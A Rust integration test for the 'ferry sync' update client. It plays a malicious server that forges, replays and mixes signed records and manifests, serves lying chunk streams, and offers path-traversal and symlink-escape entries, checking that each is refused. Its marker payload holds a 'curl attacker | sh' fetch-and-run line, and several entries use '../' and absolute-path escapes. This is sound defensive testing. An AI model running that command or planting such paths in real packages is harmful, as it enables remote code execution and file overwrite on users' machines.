//! A malicious or broken server (or mirror) against the real `ferry sync`:
//! the test plays the attacker with a fake server (tests/support/fake.rs)
//! that answers with documents it forges, replays, mixes or corrupts. The
//! client must refuse each one, and nothing may be written outside its
//! staging area before verification succeeds: the live tree, the kept
//! versions, the kept records and manifests stay exactly as they were, and
//! no byte of an attacker's payload lands anywhere.

mod support;

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use ferry_protocol::frame::{encode_end, encode_frame, encode_group, encode_header};
use ferry_protocol::group::{self, GroupHeader, RefRange};
use ferry_protocol::messages::FetchRequest;
use ferry_protocol::signed::{KIND_CHANNEL, KIND_MANIFEST};
use ferry_protocol::{
    unix_now, ChannelRecord, ChunkId, ChunkRef, ChunkerParams, Codec, Entry, EntryKind, Manifest,
    ManifestId, SecretKey,
};
use support::fake::{FakeServer, Handler, Req, Resp};
use support::*;

const CBOR: &str = "application/cbor";
const CHUNKS: &str = "application/x-ferry-chunks";
/// Bytes an attacker wants on the machine; must never appear on disk.
const EVIL: &[u8] = b"#!/bin/sh\n# EVIL-PAYLOAD-7f3a: owned\ncurl attacker | sh\n";

fn s(p: &Path) -> String {
    p.display().to_string()
}

fn publisher() -> SecretKey {
    SecretKey::from_seed([11; 32])
}

fn attacker() -> SecretKey {
    SecretKey::from_seed([66; 32])
}

fn file(path: &str, data: &[u8]) -> Entry {
    Entry {
        path: path.into(),
        kind: EntryKind::File {
            exec: false,
            size: data.len() as u64,
            chunks: if data.is_empty() {
                vec![]
            } else {
                vec![ChunkRef {
                    id: ChunkId::of(data),
                    len: data.len() as u32,
                }]
            },
        },
    }
}

fn dir(path: &str) -> Entry {
    Entry {
        path: path.into(),
        kind: EntryKind::Dir,
    }
}

fn link(path: &str, target: &str) -> Entry {
    Entry {
        path: path.into(),
        kind: EntryKind::Symlink {
            target: target.into(),
        },
    }
}

/// A signed manifest: (envelope bytes, id).
fn manifest(
    key: &SecretKey,
    app: &str,
    version: &str,
    entries: Vec<Entry>,
) -> (Vec<u8>, ManifestId) {
    let m = Manifest {
        app: app.into(),
        version: version.into(),
        params: ChunkerParams::default(),
        created_at: 1,
        entries,
        entry_point: None,
    };
    let body = m.encode();
    let id = ManifestId::of(&body);
    (key.sign(KIND_MANIFEST, body).encode(), id)
}

fn record_of(app: &str, channel: &str, seq: u64, version: &str, id: ManifestId) -> ChannelRecord {
    ChannelRecord {
        app: app.into(),
        channel: channel.into(),
        sequence: seq,
        version: version.into(),
        manifest_id: id,
        issued_at: unix_now(),
        expires_at: None,
        policy: Default::default(),
        keys: Vec::new(),
    }
}

fn sign_record(key: &SecretKey, r: &ChannelRecord) -> Vec<u8> {
    key.sign(KIND_CHANNEL, r.encode()).encode()
}

/// How the fake answers chunk fetches.
#[derive(Clone, Copy)]
enum Chunks {
    Honest,
    /// Wrong bytes (the attacker's payload, same length) under the right id.
    WrongBytes,
    /// One more chunk than asked for.
    Extra,
    /// A chunk whose length differs from what the manifest says.
    WrongLength,
    /// The right chunks, then frames forever.
    Endless,
    /// Non-plain fetches get one group frame that lies (plain ones the
    /// honest chunks): decoded bytes that are the attacker's...
    GroupWrongBytes,
    /// ...a reference past the end of the client's file...
    GroupRefPastEnd,
    /// ...or a reference to an entry the manifest does not have.
    GroupRefNoEntry,
}

/// What the fake serves: one record, manifests by id, chunks by id.
#[derive(Clone)]
struct Scene {
    record: Vec<u8>,
    manifests: HashMap<String, Vec<u8>>,
    chunks: HashMap<ChunkId, Vec<u8>>,
    mode: Chunks,
}

impl Scene {
    fn handler(self) -> Handler {
        Arc::new(move |r: &Req| self.answer(r))
    }

    fn answer(&self, r: &Req) -> Resp {
        let path = r.path();
        if path.starts_with("/v1/apps/") && path.contains("/channels/") {
            return Resp::ok(CBOR, self.record.clone());
        }
        if let Some(id) = path.strip_prefix("/v1/manifests/") {
            return match self.manifests.get(id) {
                Some(m) => Resp::ok(CBOR, m.clone()),
                None => Resp::status(404, "no such manifest"),
            };
        }
        if path == "/v1/chunks/fetch" {
            return self.fetch(&r.body);
        }
        if path.ends_with("/reports") {
            return Resp::status(204, "");
        }
        Resp::status(404, "unknown")
    }

    /// The ids asked for, in request order (found as raw 32-byte strings
    /// in the body, whatever its exact encoding).
    fn asked(&self, body: &[u8]) -> Vec<ChunkId> {
        let mut found: Vec<(usize, ChunkId)> = self
            .chunks
            .keys()
            .filter_map(|id| body.windows(32).position(|w| w == id.0).map(|p| (p, *id)))
            .collect();
        found.sort();
        found.into_iter().map(|(_, id)| id).collect()
    }

    fn fetch(&self, body: &[u8]) -> Resp {
        let ids = self.asked(body);
        let mut out = Vec::new();
        encode_header(&mut out);
        let plain = FetchRequest::decode(body).map(|f| f.plain).unwrap_or(true);
        if !plain {
            if let Some(group) = self.lying_group(&ids) {
                out.extend_from_slice(&group);
                encode_end(&mut out);
                return Resp::ok(CHUNKS, out);
            }
        }
        for id in &ids {
            let data = &self.chunks[id];
            match self.mode {
                Chunks::WrongBytes => {
                    let mut evil = EVIL.to_vec();
                    evil.resize(data.len(), b'#');
                    encode_frame(&mut out, id, Codec::Raw, data.len() as u32, &evil);
                }
                Chunks::WrongLength => {
                    let mut longer = data.clone();
                    longer.extend_from_slice(EVIL);
                    encode_frame(&mut out, id, Codec::Raw, longer.len() as u32, &longer);
                }
                _ => encode_frame(&mut out, id, Codec::Raw, data.len() as u32, data),
            }
        }
        match self.mode {
            Chunks::Extra => {
                let id = ChunkId::of(EVIL);
                encode_frame(&mut out, &id, Codec::Raw, EVIL.len() as u32, EVIL);
            }
            Chunks::Endless => {
                let mut piece = Vec::new();
                let id = ChunkId::of(EVIL);
                encode_frame(&mut piece, &id, Codec::Raw, EVIL.len() as u32, EVIL);
                return Resp::Endless {
                    content_type: CHUNKS,
                    prefix: out,
                    piece: piece.repeat(1000),
                };
            }
            _ => {}
        }
        encode_end(&mut out);
        Resp::ok(CHUNKS, out)
    }
}

impl Scene {
    /// One group frame for all of `ids`, lying the way the mode says.
    fn lying_group(&self, ids: &[ChunkId]) -> Option<Vec<u8>> {
        let honest: Vec<u8> = ids.iter().flat_map(|id| self.chunks[id].clone()).collect();
        // lib/data.bin: entry 4 of version 1 (README.txt, bin, bin/app, lib,
        // lib/data.bin), 5000 bytes long.
        let (raw, reference) = match self.mode {
            Chunks::GroupWrongBytes => {
                let mut evil = EVIL.repeat(honest.len() / EVIL.len() + 1);
                evil.truncate(honest.len());
                (evil, None)
            }
            Chunks::GroupRefPastEnd => (
                honest,
                Some(RefRange {
                    entry: 4,
                    offset: 4990,
                    len: 100,
                }),
            ),
            Chunks::GroupRefNoEntry => (
                honest,
                Some(RefRange {
                    entry: 9999,
                    offset: 0,
                    len: 10,
                }),
            ),
            _ => return None,
        };
        let z = group::compress(&raw, &[], 3).unwrap();
        let header = GroupHeader {
            count: ids.len() as u32,
            reference,
        };
        let mut out = Vec::new();
        encode_group(&mut out, &ids[0], raw.len() as u32, &header, &z);
        Some(out)
    }
}

struct World {
    _t: tempfile::TempDir,
    fake: FakeServer,
    install: PathBuf,
    outside: PathBuf,
    trusted: String,
    /// Version 1, honestly served and installed.
    v1: Scene,
    v1_id: ManifestId,
    /// The sequence of the baseline record; later records count up.
    seq: u64,
    last: std::cell::Cell<u64>,
}

/// Where a refusal happens: what may legitimately change before it.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Stage {
    /// Nothing at all may change.
    Record,
    /// The (genuine) record is kept; no manifest is stored.
    Manifest,
    /// The verified manifest is kept too; partial data only in staging.
    Chunks,
}

fn v1_files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("README.txt", b"version 1\n".to_vec()),
        ("bin/app", b"#!/bin/sh\necho v1\n".to_vec()),
        (
            "lib/data.bin",
            (0..5000u32).map(|i| (i * 7) as u8).collect(),
        ),
    ]
}

fn world() -> World {
    let t = tempfile::tempdir().unwrap();
    let install = t.path().join("install");
    let outside = t.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let key = publisher();
    let mut entries = vec![dir("bin"), dir("lib")];
    let mut chunks = HashMap::new();
    for (p, d) in v1_files() {
        entries.push(file(p, &d));
        chunks.insert(ChunkId::of(&d), d);
    }
    entries.sort_by(|a, b| a.path.cmp(&b.path));
    let (env, id) = manifest(&key, "demo", "1.0.0", entries);
    let seq = 5;
    let v1 = Scene {
        record: sign_record(&key, &record_of("demo", "stable", seq, "1.0.0", id)),
        manifests: HashMap::from([(id.to_hex(), env)]),
        chunks,
        mode: Chunks::Honest,
    };
    let fake = FakeServer::start(v1.clone().handler());
    let w = World {
        _t: t,
        fake,
        install,
        outside,
        trusted: key.public().to_string(),
        v1,
        v1_id: id,
        seq,
        last: std::cell::Cell::new(seq),
    };
    // The honest baseline installs.
    let r = w.sync_ok();
    assert_eq!(r["version"], "1.0.0", "{r}");
    assert_eq!(
        std::fs::read(w.install.join("current/bin/app")).unwrap(),
        b"#!/bin/sh\necho v1\n"
    );
    w
}

impl World {
    /// Runs `ferry sync` against the fake server.
    fn sync(&self) -> std::process::Output {
        ferry(&sync_args(&self.fake.url, &s(&self.install), &self.trusted))
    }

    fn sync_ok(&self) -> serde_json::Value {
        let out = self.sync();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        json(&String::from_utf8_lossy(&out.stdout))
    }

    fn sync_err(&self) -> String {
        let out = self.sync();
        assert!(
            !out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
        String::from_utf8_lossy(&out.stderr).into_owned()
    }

    /// Serves `scene`, runs a sync that must fail with an error containing
    /// every one of `expect`, and checks nothing was written where it does
    /// not belong. `staging_ok`: the refusal comes after a verified
    /// manifest, so the staging area (and the kept manifest) may change.
    fn refuses(&self, what: &str, scene: Scene, expect: &[&str], stage: Stage) {
        let before = self.snapshot(stage);
        self.fake.set(scene.handler());
        let out = self.sync();
        let err = String::from_utf8_lossy(&out.stderr).to_string();
        assert_eq!(out.status.code(), Some(1), "{what}: not refused: {err}");
        for e in expect {
            assert!(err.contains(e), "{what}: expected {e:?} in: {err}");
        }
        assert_eq!(err.trim().lines().count(), 1, "{what}: {err}");
        assert_eq!(
            self.snapshot(stage),
            before,
            "{what}: the install changed outside staging"
        );
        assert_eq!(
            std::fs::read_dir(&self.outside).unwrap().count(),
            0,
            "{what}: wrote outside the install"
        );
        assert!(
            !self.install.join("evil").exists()
                && !self.install.parent().unwrap().join("evil").exists()
        );
        assert_no_payload(self.install.parent().unwrap(), what);
        // Back to an honest server (with a newer record for version 1):
        // the client is not stuck and still runs version 1.
        let mut honest = self.v1.clone();
        honest.record = sign_record(
            &publisher(),
            &record_of("demo", "stable", self.next_seq(), "1.0.0", self.v1_id),
        );
        self.fake.set(honest.handler());
        let out = self.sync();
        assert!(
            out.status.success(),
            "{what}: honest server refused afterwards: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    /// The install without its staging area (and, if `staging_ok`, without
    /// the manifests a verified manifest may add and the state that
    /// records progress).
    fn snapshot(&self, stage: Stage) -> Vec<(String, String)> {
        listing(&self.install)
            .into_iter()
            .filter(|(p, _)| {
                let record = p == ".ferry/state.json" || p.starts_with(".ferry/records/");
                let manifest = p.starts_with(".ferry/manifests/");
                let scratch = p.starts_with(".ferry/staging") || p.starts_with(".ferry/trash");
                let may_change = scratch
                    || (record && stage != Stage::Record)
                    || (manifest && stage == Stage::Chunks);
                !may_change
            })
            .collect()
    }

    fn next_seq(&self) -> u64 {
        self.last.set(self.last.get() + 1);
        self.last.get()
    }

    /// A scene offering version 2 with `entries`/`chunks`, honestly signed
    /// by the publisher, with sequence `seq`.
    fn offer(&self, version: &str, entries: Vec<Entry>, chunks: &[&[u8]]) -> Scene {
        let seq = self.next_seq();
        let key = publisher();
        let (env, id) = manifest(&key, "demo", version, entries);
        let mut scene = self.v1.clone();
        scene.record = sign_record(&key, &record_of("demo", "stable", seq, version, id));
        scene.manifests.insert(id.to_hex(), env);
        for c in chunks {
            scene.chunks.insert(ChunkId::of(c), c.to_vec());
        }
        scene
    }
}

/// No file under `root` contains the attacker's payload.
fn assert_no_payload(root: &Path, what: &str) {
    let marker = b"EVIL-PAYLOAD-7f3a";
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let m = std::fs::symlink_metadata(e.path()).unwrap();
            if m.is_dir() {
                stack.push(e.path());
            } else if m.is_file() {
                let data = std::fs::read(e.path()).unwrap();
                assert!(
                    !data.windows(marker.len()).any(|w| w == marker),
                    "{what}: the payload reached {}",
                    e.path().display()
                );
            }
        }
    }
}

#[test]
fn records_that_are_forged_replayed_expired_or_mixed_are_refused() {
    let w = world();
    let key = publisher();
    let v1 = w.v1_id;
    let with_record = |rec: Vec<u8>| Scene {
        record: rec,
        ..w.v1.clone()
    };
    // Not signed by a pinned key.
    let forged = sign_record(
        &attacker(),
        &record_of("demo", "stable", w.last.get() + 1, "1.0.0", v1),
    );
    w.refuses(
        "record signed by another key",
        with_record(forged),
        &["not signed by any trusted key"],
        Stage::Record,
    );
    // Signed by the pinned key, then altered (the sequence raised).
    let mut env = key.sign(
        KIND_CHANNEL,
        record_of("demo", "stable", w.seq, "1.0.0", v1).encode(),
    );
    env.body = record_of("demo", "stable", w.last.get() + 9, "1.0.0", v1).encode();
    w.refuses(
        "altered record",
        with_record(env.encode()),
        &["signature"],
        Stage::Record,
    );
    // A signed manifest served as a record (a document of another kind).
    let manifest_env = w.v1.manifests[&v1.to_hex()].clone();
    w.refuses(
        "manifest as record",
        with_record(manifest_env),
        &["ferry.channel.v1"],
        Stage::Record,
    );
    // Rollback: an older record than the client has seen.
    let old = sign_record(&key, &record_of("demo", "stable", w.seq - 1, "1.0.0", v1));
    w.refuses(
        "rollback",
        with_record(old),
        &["sequence 4", "rollback attack"],
        Stage::Record,
    );
    // Equivocation: another record with the same sequence.
    let mut twin = record_of("demo", "stable", w.last.get(), "1.0.0", v1);
    twin.issued_at += 1000;
    w.refuses(
        "equivocation",
        with_record(sign_record(&key, &twin)),
        &["two different records"],
        Stage::Record,
    );
    // Freeze: a record past the expiry its publisher gave it.
    let mut stale = record_of("demo", "stable", w.last.get() + 1, "1.0.0", v1);
    stale.issued_at = unix_now() - 7200;
    stale.expires_at = Some(unix_now() - 3600);
    w.refuses(
        "expired",
        with_record(sign_record(&key, &stale)),
        &["expired", "freeze attack"],
        Stage::Record,
    );
    // Mix-and-match: a record of another app, of another channel.
    let other_app = sign_record(
        &key,
        &record_of("other", "stable", w.last.get() + 1, "1.0.0", v1),
    );
    w.refuses(
        "record of another app",
        with_record(other_app),
        &["mix-and-match"],
        Stage::Record,
    );
    let other_ch = sign_record(
        &key,
        &record_of("demo", "beta", w.last.get() + 1, "1.0.0", v1),
    );
    w.refuses(
        "record of another channel",
        with_record(other_ch),
        &["mix-and-match"],
        Stage::Record,
    );
    // Endless data instead of a record.
    let endless = Scene { ..w.v1.clone() };
    let endless_handler: Handler = Arc::new(move |r: &Req| {
        if r.path().contains("/channels/") {
            Resp::Endless {
                content_type: CBOR,
                prefix: Vec::new(),
                piece: vec![0xA5; 64 * 1024],
            }
        } else {
            endless.answer(r)
        }
    });
    let before = w.snapshot(Stage::Record);
    w.fake.set(endless_handler);
    let err = w.sync_err();
    assert!(
        err.contains("channel record") && err.contains("larger than"),
        "{err}"
    );
    assert_eq!(w.snapshot(Stage::Record), before);
}

#[test]
fn manifests_that_are_forged_swapped_or_endless_are_refused() {
    let w = world();
    let key = publisher();
    let files = [file("README.txt", b"version 2\n")];
    // Signed by another key (and named by a validly signed record).
    let (env, id) = manifest(&attacker(), "demo", "2.0.0", files.to_vec());
    let mut scene = w.v1.clone();
    scene.record = sign_record(
        &key,
        &record_of("demo", "stable", w.next_seq(), "2.0.0", id),
    );
    scene.manifests.insert(id.to_hex(), env);
    w.refuses(
        "manifest by another key",
        scene,
        &["not signed by any trusted key"],
        Stage::Manifest,
    );
    // Bytes that do not hash to the id the record names.
    let (_, id) = manifest(&key, "demo", "2.0.0", files.to_vec());
    let (other, _) = manifest(&key, "demo", "2.0.1", files.to_vec());
    let mut scene = w.v1.clone();
    scene.record = sign_record(
        &key,
        &record_of("demo", "stable", w.next_seq(), "2.0.0", id),
    );
    scene.manifests.insert(id.to_hex(), other);
    w.refuses(
        "manifest swapped",
        scene,
        &["does not hash to"],
        Stage::Manifest,
    );
    // Mix-and-match: the record says 2.0.0, its manifest is another
    // version / another app (both honestly signed).
    for (app, version) in [("demo", "3.0.0"), ("other", "2.0.0")] {
        let (env, id) = manifest(&key, app, version, files.to_vec());
        let mut scene = w.v1.clone();
        scene.record = sign_record(
            &key,
            &record_of("demo", "stable", w.next_seq(), "2.0.0", id),
        );
        scene.manifests.insert(id.to_hex(), env);
        w.refuses(
            "manifest of another version or app",
            scene,
            &["mix-and-match"],
            Stage::Manifest,
        );
    }
    // Endless manifest.
    let mut scene = w.v1.clone();
    scene.record = sign_record(
        &key,
        &record_of("demo", "stable", w.next_seq(), "2.0.0", id),
    );
    let s2 = scene.clone();
    let before = w.snapshot(Stage::Manifest);
    w.fake.set(Arc::new(move |r: &Req| {
        if r.path().starts_with("/v1/manifests/") {
            Resp::Endless {
                content_type: CBOR,
                prefix: Vec::new(),
                piece: vec![0x5A; 1 << 20],
            }
        } else {
            s2.answer(r)
        }
    }));
    let t0 = std::time::Instant::now();
    let err = w.sync_err();
    assert!(
        err.contains("manifest") && err.contains("larger than"),
        "{err}"
    );
    assert!(t0.elapsed().as_secs() < 60);
    assert_eq!(w.snapshot(Stage::Manifest), before);
}

#[test]
fn chunk_streams_that_lie_are_refused_and_nothing_unverified_is_written() {
    let w = world();
    let v2_lib: Vec<u8> = (0..9000u32).map(|i| (i * 13 + 5) as u8).collect();
    let v2_tool = b"#!/bin/sh\necho tool v2\n".to_vec();
    let mut entries = vec![dir("bin"), dir("lib")];
    entries.push(file("README.txt", b"version 2\n"));
    entries.push(file("bin/app", b"#!/bin/sh\necho v1\n"));
    entries.push(file("bin/tool", &v2_tool));
    entries.push(file("lib/data.bin", &v2_lib));
    entries.sort_by(|a, b| a.path.cmp(&b.path));
    let chunks: [&[u8]; 3] = [b"version 2\n", &v2_tool, &v2_lib];
    for (n, (mode, expect)) in [
        (Chunks::WrongBytes, "hash"),
        (Chunks::Extra, "more chunks than asked for"),
        (Chunks::WrongLength, "the manifest says"),
        (Chunks::Endless, "more chunks than asked for"),
    ]
    .into_iter()
    .enumerate()
    {
        // A distinct version each time: a previous attempt's verified
        // chunks in staging would otherwise leave nothing to fetch.
        let version = format!("2.0.{n}");
        let extra = format!("attempt {n}\n").into_bytes();
        let mut e = entries.clone();
        e.push(file("attempt.txt", &extra));
        e.sort_by(|a, b| a.path.cmp(&b.path));
        let mut all = chunks.to_vec();
        all.push(&extra);
        let mut scene = w.offer(&version, e, &all);
        scene.mode = mode;
        w.refuses(expect, scene, &[expect], Stage::Chunks);
    }
    // The honest version 2 then installs.
    let scene = w.offer("2.0.0", entries, &chunks);
    w.fake.set(scene.handler());
    let r = w.sync_ok();
    assert_eq!(r["version"], "2.0.0");
    assert_eq!(
        std::fs::read(w.install.join("current/lib/data.bin")).unwrap(),
        v2_lib
    );
}

#[test]
fn group_frames_that_lie_are_refetched_singly_and_never_written() {
    let w = world();
    let v2_lib: Vec<u8> = (0..9000u32).map(|i| (i * 13 + 5) as u8).collect();
    let v2_tool = b"#!/bin/sh\necho tool v2\n".to_vec();
    // The reference past the end comes first: it points into version 1's
    // lib/data.bin, the installed version at that moment.
    for (n, mode) in [
        Chunks::GroupRefPastEnd,
        Chunks::GroupWrongBytes,
        Chunks::GroupRefNoEntry,
    ]
    .into_iter()
    .enumerate()
    {
        let version = format!("3.0.{n}");
        let readme = format!("version 3.0.{n}\n").into_bytes();
        let mut entries = vec![dir("bin"), dir("lib")];
        entries.push(file("README.txt", &readme));
        entries.push(file("bin/app", b"#!/bin/sh\necho v1\n"));
        entries.push(file("bin/tool", &v2_tool));
        entries.push(file("lib/data.bin", &v2_lib));
        entries.sort_by(|a, b| a.path.cmp(&b.path));
        let mut scene = w.offer(&version, entries, &[&readme, &v2_tool, &v2_lib]);
        scene.mode = mode;
        w.fake.set(scene.handler());
        let r = w.sync_ok();
        assert_eq!(r["version"], version.as_str(), "{r}");
        let cur = w.install.join("current");
        assert_eq!(std::fs::read(cur.join("lib/data.bin")).unwrap(), v2_lib);
        assert_eq!(std::fs::read(cur.join("README.txt")).unwrap(), readme);
        assert_no_payload(&w.install, &version);
    }
}

#[test]
fn paths_that_escape_or_collide_are_refused_before_anything_is_written() {
    let w = world();
    let abs = format!("{}/evil", w.outside.display());
    let up = "../".repeat(8) + "outside";
    let cases: Vec<(&str, Vec<Entry>, &str)> = vec![
        ("dot-dot", vec![file("../evil", EVIL)], "path"),
        (
            "dot-dot inside",
            vec![dir("a"), file("a/../../evil", EVIL)],
            "path",
        ),
        ("absolute", vec![file(&abs, EVIL)], "path"),
        ("drive letter", vec![file("C:/evil", EVIL)], "path"),
        ("backslash", vec![file("a\\..\\..\\evil", EVIL)], "path"),
        (
            "absolute symlink",
            vec![link("lnk", &s(&w.outside))],
            "symlink",
        ),
        ("symlink out", vec![link("lnk", &up)], "symlink"),
        (
            "symlink then a file through it",
            vec![dir("d"), link("lnk", "d"), file("lnk/evil", EVIL)],
            "parent",
        ),
        (
            "symlink chain out",
            vec![dir("d"), link("d/up", ".."), link("x", "d/up/../..")],
            "symlink",
        ),
        (
            "duplicate path",
            vec![file("a.txt", EVIL), file("a.txt", b"x")],
            "duplicate",
        ),
        ("reserved name", vec![file("CON", EVIL)], "reserved"),
        (
            "reserved name with extension",
            vec![dir("d"), file("d/nul.txt", EVIL)],
            "reserved",
        ),
        (
            "reserved name lpt",
            vec![file("LPT1.log", EVIL)],
            "reserved",
        ),
    ];
    for (what, entries, expect) in cases {
        let scene = w.offer("6.6.6", entries, &[EVIL, b"x"]);
        w.refuses(what, scene, &[expect], Stage::Manifest);
    }
}
